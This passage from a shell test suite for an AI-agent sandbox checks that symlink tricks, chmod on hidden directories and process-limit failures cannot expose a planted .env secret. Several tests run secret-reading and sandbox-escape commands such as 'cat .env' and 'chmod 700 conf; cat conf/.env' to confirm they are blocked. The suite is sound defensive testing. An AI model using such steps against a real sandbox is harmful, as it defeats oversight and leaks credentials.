	id=$(as_user ipcmk -M 4096 | grep -o '[0-9]*$')
	[ -n "$id" ] || fail "setup: ipcmk failed"
	ag run -- sh -c 'ipcs -m | grep -c "^0x" || true'
	as_user ipcrm -m "$id"
	assert_status 0
	assert_stdout_is "0"
}

# A failure to create the sandbox's processes (here: the user's process limit)
# is never turned into an unsandboxed run, even with --allow-degraded.
test_sandbox_resource_failure_never_unsandboxed() {
	sbx_setup
	local saved=("${AS_USER[@]}")
	AS_USER=(prlimit --nproc=1:1 "${saved[@]}")
	# Under the sanitizer build LeakSanitizer needs a thread at exit, which the
	# limit forbids; leaks are checked by every other case.
	AG_ENV=(ASAN_OPTIONS=detect_leaks=0)
	ag run --allow-degraded -- cat .env
	AG_ENV=()
	AS_USER=("${saved[@]}")
	assert_status 125
	assert_stderr_contains "cannot create the sandbox's processes"
	assert_stdout_not_contains "$SECRET"
}

# A write root reached through a symlink inside another write root could be
# redirected from inside (to the whole home): run refuses it.
test_sandbox_write_root_via_symlink_refused() {
	sbx_setup
	{ cat "$CFG"; printf 'allow_write:\n  - "~/.cache/"\n  - "~/.cache/tools/pip/"\n'; } >"$T/cfg.new"
	grep -v '^allow_write:\|^  - "~/\.\(claude\|codex\|gemini\|cache\|npm\|cargo\|local\)' "$T/cfg.new" >"$CFG.tmp"
	printf 'allow_write:\n  - "~/.cache/"\n  - "~/.cache/tools/pip/"\n' >>"$CFG.tmp"
	mv "$CFG.tmp" "$CFG"
	mkdir -p "$HOME_DIR/.cache/tools"
	ln -s ../.. "$HOME_DIR/.cache/tools/pip"
	fix_owner
	ag run -- true
	assert_status 125
	assert_stderr_contains "is reached through a symlink inside a writable directory"
}

# A directory the walk cannot read, inside a write root, is hidden whole: the
# agent could otherwise chmod it open and read what the walk never judged.
test_sandbox_unreadable_dir_hidden() {
	sbx_setup
	mkdir -p "$PROJ/conf"
	write_file "$PROJ/conf/.env" <<<"DB=$SECRET"
	fix_owner
	chmod 000 "$PROJ/conf"
	ag run -- sh -c 'chmod 700 conf; cat conf/.env'
	chmod 700 "$PROJ/conf"
	[ "$STATUS" -ne 0 ] || fail "reading the unjudged directory must fail"
	assert_stdout_not_contains "$SECRET"
}

# The config dir is created (0700) when missing, so it is always hidden.
test_sandbox_config_dir_created_and_hidden() {
	sbx_setup
	mv "$AG_HOME/config.yaml" "$T/config.yaml.saved"
	rmdir "$AG_HOME"
	ag run --allow-degraded -- sh -c 'mkdir -p "$0" && echo "deny_read: []" > "$0/config.yaml"' "$AG_HOME"
	[ -d "$AG_HOME" ] || fail "the config dir was not created"
	assert_eq "$(stat -c %a "$AG_HOME")" 700 "config dir mode"
	[ ! -e "$AG_HOME/config.yaml" ] || fail "the sandbox planted a policy"
}

# A symlinked directory in the project (cfg -> ../shared, outside the project
# and outside /tmp, so the sandbox can see it): rules match its files by their
# name in the tree, and the real files are hidden.
test_sandbox_symlinked_dir_judged() {
	sbx_setup
	local shared=/var/tmp/aigate-it-shared.$$
	rm -rf "$shared"
	mkdir -p "$shared"
	write_file "$shared/.env" <<<"SHARED=$SECRET"
	ln -s "$shared" "$PROJ/cfg"
	chown -R aigate-test: "$shared" 2>/dev/null || true
	chmod 755 "$shared"
	fix_owner
	[ "$(as_user cat cfg/.env)" = "SHARED=$SECRET" ] || { rm -rf "$shared"; fail "setup: the test user cannot read cfg/.env natively"; }
	ag run -- sh -c 'cat cfg/.env; cat "$0/.env"' "$shared"
	rm -rf "$shared"
	assert_status 1
	assert_stdout_not_contains "$SECRET"
	# Hidden at start, and denied (with a record) by the plan's rule.
	assert_eq "$(audit_count "$(audit_file)" action=open verdict=denied "target=$shared/.env" rule.text=.env)" 2 \
		"records of the hidden file's denials"
}
